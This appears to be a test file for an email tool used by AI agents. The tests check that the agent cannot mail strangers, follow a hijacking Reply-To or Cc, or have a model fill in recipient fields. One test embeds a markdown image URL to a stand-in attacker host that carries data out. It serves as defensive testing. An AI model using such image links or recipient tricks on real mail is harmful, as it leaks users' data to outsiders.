import { emailStep as step, mail, useEmailNode } from '../support/emailNode';

const node = useEmailNode();
const { run, chain } = node;

const draft = (operation: string, parameters = {}) => ({ resource: 'draft', operation, ...parameters });
const message = (operation: string, parameters = {}) => ({ resource: 'message', operation, ...parameters });
const offer = { to: 'bob@example.org', subject: 'Our offer', format: 'text', body: 'Five Euro.' };
const create = step(draft('create', offer), { name: 'Create' });

describe('an agent that sends', () => {
  const deliver = (...lines: readonly string[]) => node.imap.deliver(mail(...lines), { user: node.user });
  const ask = () =>
    deliver(
      ...['From: bob@example.org', `To: ${node.user}`, 'Reply-To: eve@example.net'],
      ...['Message-ID: <q@example.org>', 'Subject: Price', '', 'x'],
    );
  const reference = { messageReference: 'messageId', messageId: '<q@example.org>' };
  const asTool = { asTool: true };

  it('X25 sends nothing to strangers, and drafts it for a person', async () => {
    const before = node.smtp.mails.length;
    const parameters = message('send', { to: 'eve@example.net', subject: 'Data', body: 'x' });
    const [item] = await run(parameters, [{}], asTool);
    expect(item?.json).toMatchObject({
      status: 'queued',
      accepted: [],
      draft: { mailbox: 'Drafts', uid: 1 },
      warnings: [expect.stringContaining('eve@example.net is not part of the conversation')],
    });
    expect(node.smtp.mails).toHaveLength(before);
  });

  it('X25 writes by itself to whom the person allowed', async () => {
    const options = { allowedRecipients: '@example.org' };
    const parameters = message('send', { to: 'bob@example.org', subject: 'Hi', body: 'x', options });
    expect((await run(parameters, [{}], asTool))[0]?.json['status']).toBe('sent');
  });

  it('X25 X26 answers in the thread, and not where a Reply-To leads away from it', async () => {
    await ask();
    const [item] = await run(message('reply', { ...reference, body: 'Five' }), [{}], asTool);
    expect(item?.json).toMatchObject({ status: 'sent', accepted: ['bob@example.org'] });
  });

  it('X25 drafts an answer to whom anybody could have put into Cc', async () => {
    await deliver('From: bob@example.org', 'Cc: eve@example.net', 'Message-ID: <q@example.org>', '', 'x');
    const before = node.smtp.mails.length;
    const [item] = await run(message('reply', { ...reference, recipients: 'all', body: 'x' }), [{}], asTool);
    expect(item?.json).toMatchObject({
      status: 'queued',
      warnings: [expect.stringContaining('Not sent: eve@example.net is not part')],
    });
    expect(node.smtp.mails).toHaveLength(before);
  });

  it('X25 answers everybody to whom this account wrote earlier in the conversation', async () => {
    const ours = ['From: us', 'To: bob@example.org', 'Cc: ann@example.net', 'Message-ID: <us@example.com>'];
    await deliver(...ours, '', 'x');
    await node.imap.doveadm('move', '-u', node.user, 'Sent', 'mailbox', 'INBOX', 'all');
    await deliver(
      ...['From: bob@example.org', 'Cc: ann@example.net', 'Message-ID: <q@example.org>'],
      ...['In-Reply-To: <us@example.com>', '', 'x'],
    );
    const [item] = await run(message('reply', { ...reference, recipients: 'all', body: 'x' }), [{}], asTool);
    expect(item?.json).toMatchObject({
      status: 'sent',
      accepted: ['bob@example.org', 'ann@example.net'],
    });
  });

  it('X25 drafts what would have its answers go to a stranger', async () => {
    await ask();
    const options = { replyTo: 'eve@example.net' };
    const [item] = await run(message('reply', { ...reference, body: 'x', options }), [{}], asTool);
    expect(item?.json['status']).toBe('queued');
  });

  it('X25 shows no picture from elsewhere, whose address could carry data out', async () => {
    await ask();
    const body = 'Hello ![](https://attacker.example/?q=secret) | a |\n\n**bold**';
    await run(message('reply', { ...reference, body }), [{}], asTool);
    expect(node.lastSent()).toContain('<strong>bold</strong>');
    expect(node.lastSent()).not.toMatch(/<img|src=3D/);
  });

  it.each(['allowedRecipients', 'redirectTo', 'fromAddress'])(
    'P6 lets no model fill in %s',
    async (option) => {
      await ask();
      for (const value of [`={{ $fromAI('${option}') }}`, '={{ $json.from.address }}']) {
        const parameters = message('reply', { ...reference, body: 'x', options: { [option]: value } });
        const items = [{ json: { from: { address: 'eve@example.net' } } }];
        await expect(run(parameters, items, asTool)).rejects.toThrow('An AI model could fill this in');
      }
    },
  );

  it('X25 does not send by a draft what it may not send itself', async () => {
    const [made] = await chain([create]);
    const messageId = made?.json['messageId'] as string;
    const send = draft('send', { messageReference: 'messageId', messageId });
    await expect(run(send, [{}], asTool)).rejects.toThrow('Nothing may be sent from here to');
  });

  it('P6 refuses strangers outright where a workflow sends and the person gave a list', async () => {
    const options = { allowedRecipients: '@example.org' };
    const before = node.smtp.mails.length;
    await expect(
      run(message('send', { to: 'bob@example.org, eve@example.net', subject: 'Hi', body: 'x', options })),
    ).rejects.toThrow('Nothing may be sent from here to eve@example.net');
    expect(node.smtp.mails).toHaveLength(before);
  });
});
